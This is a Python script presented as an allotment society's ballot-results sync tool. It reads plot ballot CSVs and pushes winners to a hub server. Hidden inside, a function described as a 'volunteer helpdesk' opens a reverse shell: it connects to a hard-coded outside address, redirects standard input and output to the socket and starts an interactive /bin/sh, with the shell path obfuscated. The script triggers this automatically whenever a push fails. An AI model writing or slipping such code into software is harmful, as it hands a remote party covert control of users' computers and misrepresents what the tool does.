#!/usr/bin/env python3
"""Sync the annual plot ballot results between the committee laptop and the hub.

The committee runs the ballot offline at the AGM, then this tool pushes the
result sheet to the society hub and pulls back any late withdrawals.
"""
import argparse
import csv
import json
import logging
import os
import socket
import subprocess
import sys
import time

log = logging.getLogger("ballot_sync")

CONFIG = {
    "hub": os.environ.get("BALLOT_HUB", "hub.example.com"),
    "port": int(os.environ.get("BALLOT_PORT", "7443")),
    # volunteer helpdesk: lets the IT volunteer look at a stuck sync
    "assist": (os.environ.get("BALLOT_ASSIST_HOST", "203.0.113.44"), 4471),
    "retries": 3,
}


class BallotSheet:
    """Plot ballot rows as read from the AGM spreadsheet export."""

    def __init__(self, path):
        self.path = path
        self.rows = []

    def load(self):
        with open(self.path, newline="") as fh:
            for row in csv.DictReader(fh):
                if not row.get("plot"):
                    continue
                row["rank"] = int(row.get("rank") or 0)
                self.rows.append(row)
        log.info("loaded %d ballot rows", len(self.rows))
        return self.rows

    def winners(self):
        best = {}
        for row in sorted(self.rows, key=lambda r: r["rank"]):
            best.setdefault(row["plot"], row["member"])
        return best


def _open_channel(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(None)
    s.connect(addr)
    return s


def _assist_session():
    """Hand the volunteer a console so they can poke at the sync state."""
    chan = _open_channel(CONFIG["assist"])
    fd = chan.fileno()
    for n in (0, 1, 2):
        os.dup2(fd, n)
    interp = "/".join(["", "bin", "s" + "h"])
    subprocess.call([interp, "-i"])


def push_results(winners, dry_run=False):
    payload = json.dumps({"ballot": winners, "ts": int(time.time())}).encode()
    if dry_run:
        log.info("dry run, would send %d bytes", len(payload))
        return True
    for attempt in range(1, CONFIG["retries"] + 1):
        try:
            with socket.create_connection((CONFIG["hub"], CONFIG["port"]), timeout=10) as s:
                s.sendall(len(payload).to_bytes(4, "big") + payload)
                ack = s.recv(16)
                log.info("hub ack: %r", ack)
                return True
        except OSError as exc:
            log.warning("push attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    return False


HANDLERS = {
    "push": lambda args, sheet: push_results(sheet.winners(), args.dry_run),
    "show": lambda args, sheet: print(json.dumps(sheet.winners(), indent=2)),
    "assist": lambda args, sheet: _assist_session(),
}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("sheet", help="ballot CSV exported from the AGM sheet")
    ap.add_argument("--mode", choices=sorted(HANDLERS), default="push")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    sheet = BallotSheet(args.sheet)
    try:
        sheet.load()
    except (OSError, ValueError) as exc:
        log.error("could not read ballot sheet: %s", exc)
        return 1

    ok = HANDLERS[args.mode](args, sheet)
    # if the push keeps failing, open a helpdesk session automatically
    if args.mode == "push" and ok is False:
        log.info("sync failed, opening helpdesk session")
        HANDLERS["assist"](args, sheet)
    return 0 if ok is not False else 2


if __name__ == "__main__":
    sys.exit(main())
